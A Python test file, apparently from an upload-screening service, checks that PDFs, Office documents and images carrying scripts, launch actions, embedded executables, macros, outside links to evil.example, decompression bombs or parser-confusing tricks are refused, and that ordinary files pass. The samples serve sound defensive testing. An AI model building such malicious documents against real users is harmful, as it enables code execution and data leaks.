"""Whoever opens an attachment starts nothing by it: programs, other files and what is loaded from outside (R-195)."""

import io
import time
import zlib
from collections.abc import Callable

import pytest
from PIL import Image
from reportlab.pdfgen import canvas

from service.domain.errors import Refused
from service.uploads.examining import Upload, examine
from tests.uploads import papers
from tests.uploads.test_sound_files import FIVE

pytestmark = pytest.mark.requirement("R-195")
JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf(*more: bytes, catalogue: bytes = b"", between: bytes = b"") -> bytes:
    """A PDF of one page with further objects from number 4 on, its table right."""
    objects = (
        b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        *more,
    )
    body, places = b"%PDF-1.7\n", []
    for number, words in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, words)
    body += between
    entries = b"".join(b"%010d 00000 n \n" % place for place in places)
    table = b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, entries)
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(body))
    return body + table + end


def stream(body: bytes, words: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (words, len(body), body)


def object_stream(*objects: bytes, packed: bool = True, words: bytes = b"/Type/ObjStm") -> bytes:
    body = b"9 0 " + b" ".join(objects)
    packing = b"/Filter/FlateDecode" if packed else b""
    return stream(zlib.compress(body) if packed else body, words + b"/N 1/First 4" + packing)


PDFS: dict[str, Callable[[], bytes]] = {
    "a script when it is opened": lambda: pdf(JS, catalogue=b"/OpenAction 4 0 R"),
    "a script by its name": lambda: pdf(catalogue=b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>"),
    "a name in signs of numbers": lambda: pdf(b"<</S/J#61vaScript>>", catalogue=b"/OpenAction 4 0 R"),
    "a program that is started": lambda: pdf(b"<</S/Launch/F(cmd.exe)>>", catalogue=b"/OpenAction 4 0 R"),
    "a packed file": lambda: pdf(stream(b"MZ", b"/Type/EmbeddedFile")),
    "a form of another kind": lambda: pdf(catalogue=b"/AcroForm<</XFA 4 0 R>>"),
    "a form that is sent": lambda: pdf(b"<</S/SubmitForm/F(http://evil.example)>>"),
    "a film": lambda: pdf(b"<</Subtype/RichMedia>>"),
    "a script among packed objects": lambda: pdf(object_stream(JS)),
    "a script among objects in a row": lambda: pdf(object_stream(JS, packed=False)),
    "packed objects under another name": lambda: pdf(object_stream(JS, words=b"/Type/Other")),
    "packed objects that nobody unpacks": lambda: pdf(stream(b"rubbish", b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")),
    "packed objects cut off": lambda: pdf(stream(zlib.compress(JS * 50)[:20], b"/Type/ObjStm/Filter/FlateDecode")),
    "objects packed in another way": lambda: pdf(stream(b"3C3C>", b"/Type/ObjStm/Filter/ASCIIHexDecode")),
    "objects packed twice": lambda: pdf(stream(b"x", b"/Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]")),
    "a bomb of objects": lambda: pdf(object_stream(bytes(60 * 1024 * 1024))),
    "an object inside a string": lambda: pdf(between=b"(\n9 0 obj\n" + JS + b"\nendobj\n)\n"),
    "an object inside a comment": lambda: pdf(between=b"% 9 0 obj " + JS + b" endobj\n"),
    "an object inside a stream": lambda: pdf(stream(b"9 0 obj\n" + JS + b"\nendobj")),
    "a string without an end": lambda: pdf(between=b"(((\n"),
    "a stream without an end": lambda: pdf(between=b"<<>>stream\nx\n"),
    "a stream that is none": lambda: pdf(b"<</A stream\n/S/JavaScript endstream>>"),
    "a string that ends as another reader ends it": lambda: pdf(b"<</A(\\\\)/S/JavaScript/B(x)>>"),
    "a million parts": lambda: pdf(b"[" + b"/a" * 1_100_000 + b"]"),
}  # fmt: skip


@pytest.mark.parametrize("kind", PDFS)
def test_no_pdf_starts_carries_or_hides_anything(kind: str) -> None:
    content = PDFS[kind]()
    began = time.thread_time()
    with pytest.raises(Refused) as refusal:
        examine(Upload("a.pdf", content), FIVE)
    assert refusal.value.code == "E_ATTACHMENT_CONTENT"
    assert time.thread_time() - began < 10


def scanned() -> bytes:
    """As a scanner or an office program writes it: pictures, fonts, links, strings with brackets."""
    target = io.BytesIO()
    page = canvas.Canvas(target)
    page.setTitle("回执 (第一联) \\(")
    page.drawInlineImage(Image.effect_noise((400, 300), 90), 50, 50)
    page.linkURL("http://example.org/", (0, 0, 9, 9))
    page.bookmarkPage("a")
    page.addOutlineEntry("第一页", "a")
    page.acroForm.textfield(name="x", x=1, y=1)
    page.save()
    return target.getvalue()


SOUND: dict[str, Callable[[], bytes]] = {
    "a scan": scanned,
    "words in a string": lambda: pdf(b"<</Title(/JavaScript \\( in words\\) \\\\)/A(balanced (brackets))>>"),
    "chance bytes of a picture": lambda: pdf(stream(b"/JS /Launch (((" * 100)),
    "packed objects": lambda: pdf(object_stream(b"<</Type/Font>>")),
    "a jump to the first page": lambda: pdf(catalogue=b"/OpenAction[3 0 R/Fit]"),
}


@pytest.mark.parametrize("kind", SOUND)
def test_what_people_send_is_taken(kind: str) -> None:
    assert examine(Upload("a.pdf", SOUND[kind]()), FIVE).media_type == "application/pdf"


def related(kind: str, *, outside: bool = True, part: str = "word/_rels/document.xml.rels", body: bytes = b"") -> bytes:
    """A document with one more relation, and what it leads to where that lies inside."""
    mode, target = ('TargetMode="External"', "http://evil.example/a") if outside else ("", "more.bin")
    text = f'<Relationships xmlns="r"><Relationship Id="a" {mode} Target="{target}" Type="{_RELATIONS}/{kind}"/></Relationships>'
    more = {} if outside else {"word/more.bin": body}
    return papers.archive({**papers.office_parts("docx"), part: text.encode(), **more})


def carrying(body: bytes) -> bytes:
    return papers.archive({**papers.office_parts("docx"), "word/embeddings/oleObject1.bin": body})


def macros() -> bytes:
    return papers.archive({**papers.office_parts("xlsx"), "xl/vbaProject.bin": b"x"})


DOCUMENTS: dict[str, Callable[[], bytes]] = {
    **{f"outside: {kind}": lambda kind=kind: related(kind) for kind in ("attachedTemplate", "oleObject", "frame", "image",
       "subDocument", "video", "aFChunk", "externalLink", "printerSettings", "hyperlink/image")},
    "outside in other letters": lambda: related("attachedTemplate", part="word/_rels/settings.xml.RELS"),
    "a page in the text": lambda: related("aFChunk", outside=False, body=b"<html>"),
    "a control": lambda: related("control", outside=False, body=b"x"),
    "a packed program": lambda: carrying(papers.compound({"\x01Ole10Native": b"MZ"})),
    "a document with macros": lambda: carrying(papers.compound({"WordDocument": b"\xec\xa5"}, storages=("Macros",))),
    "half a packed document": lambda: carrying(papers.compound({"a": b"x"})[:600]),
    "a workbook with macros": lambda: carrying(macros()),
}  # fmt: skip


@pytest.mark.parametrize("kind", DOCUMENTS)
def test_no_document_starts_carries_or_loads_anything(kind: str) -> None:
    with pytest.raises(Refused) as refusal:
        examine(Upload("a.docx", DOCUMENTS[kind]()), FIVE)
    assert refusal.value.code == "E_ATTACHMENT_CONTENT"


@pytest.mark.parametrize(
    "make",
    [
        lambda: related("hyperlink"),
        lambda: related("externalLinkPath"),
        lambda: related("image", outside=False, body=b"x"),
        lambda: carrying(papers.compound({"Package": b"x"})),
        lambda: carrying(papers.office_open("xlsx")),
    ],
)
def test_links_pictures_and_tables_are_taken(make: Callable[[], bytes]) -> None:
    assert examine(Upload("a.docx", make()), FIVE).content


@pytest.mark.parametrize("kind", ["gif", "png", "jpg"])
def test_no_words_travel_beside_a_picture(kind: str) -> None:
    """Behind a palette no reader looks for markup; a browser that is made to will."""
    target = io.BytesIO()
    wishes = {"comment": b"x" * 1_100 + b"<script>alert(1)</script>"} if kind != "png" else {}
    mode = "P" if kind == "gif" else "RGB"
    picture = Image.effect_noise((300, 200), 90).convert("RGB").convert(mode)
    picture.save(target, {"jpg": "JPEG"}.get(kind, kind.upper()), **wishes)
    sent = target.getvalue()
    if kind == "png":
        text = b"tEXtComment\0<script>alert(1)</script>"
        chunk = (len(text) - 4).to_bytes(4, "big") + text + zlib.crc32(text).to_bytes(4, "big")
        sent = sent[:-12] + chunk + sent[-12:]
    assert b"<script>" in sent
    assert b"<script>" not in examine(Upload(f"a.{kind}", sent), FIVE).content


@pytest.mark.parametrize(
    "name", ["a.svg", "a.svgz", "a.html", "a.xhtml", "a.docm", "a.dotx", "a.rtf", "a.eml", "a.mht"]
)
def test_kinds_that_carry_programs_are_none_of_ours(name: str) -> None:
    with pytest.raises(Refused) as refusal:
        examine(Upload(name, b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), FIVE)
    assert refusal.value.code == "E_ATTACHMENT_TYPE"


@pytest.mark.parametrize("kind", ["jpg", "png", "gif", "bmp", "pdf", "docx", "doc"])
def test_a_drawing_with_a_script_is_none_of_the_kinds(kind: str) -> None:
    with pytest.raises(Refused) as refusal:
        examine(Upload(f"a.{kind}", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), FIVE)
    assert refusal.value.code == "E_ATTACHMENT_CONTENT"
